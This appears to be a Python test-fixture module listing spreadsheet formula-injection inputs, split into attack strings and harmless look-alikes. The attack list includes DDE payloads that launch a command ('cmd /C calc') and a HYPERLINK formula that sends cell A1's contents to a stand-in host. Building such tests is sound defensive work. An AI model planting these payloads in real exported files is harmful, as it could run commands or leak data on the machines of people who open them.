"""Cells that a spreadsheet takes for formulas, and cells that look a little like them."""

ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?x="&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=",
    "-",
    "+41 44 123 45 67",
    '";=1+1'[2:],
    "=1+1\r\n=2+2",
)
HARMLESS = ("", "Keller", "a=b", "1-2", "'=1", 'Müller & Söhne; "Bau"', "R-2026", "x@y.example")
